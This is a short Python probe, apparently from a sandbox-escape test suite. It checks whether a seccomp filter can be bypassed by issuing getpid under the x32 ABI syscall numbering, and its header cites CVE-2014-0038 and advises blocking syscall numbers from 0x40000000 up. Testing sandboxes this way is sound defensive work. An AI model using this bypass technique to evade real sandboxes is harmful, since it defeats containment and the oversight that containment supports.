# title: Call the kernel by the numbers of x32
# tries: Calls getpid with the bit of the x32 ABI set: the architecture is the same, so a filter that only compares it, and forbids by list, lets every call pass. Succeeds only where the kernel has that ABI.
# impact: Escape
# reference: CVE-2014-0038
# proof: returned
# host: run
# advice: Let the seccomp filter kill numbers from 0x40000000 on.


def call(number, *arguments):
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(*(ctypes.c_long(each) if isinstance(each, int) else each for each in (number, *arguments)))
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attempt(host):
    import os

    if os.uname().machine != "x86_64":
        return None
    return call(0x40000000 + 39) == os.getpid() and "the x32 getpid answered"
